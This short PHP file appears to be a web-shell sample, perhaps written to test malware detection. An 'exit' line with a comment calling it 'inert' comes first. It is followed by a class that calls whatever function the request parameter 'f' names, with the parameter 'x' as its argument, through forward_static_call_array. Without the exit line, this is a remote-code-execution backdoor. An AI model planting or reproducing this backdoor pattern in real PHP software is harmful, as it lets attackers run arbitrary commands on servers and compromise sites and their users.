<?php exit; /* inert */ 
class A { public static function t() { forward_static_call_array($_REQUEST['f'], array($_REQUEST['x'])); } }
A::t();
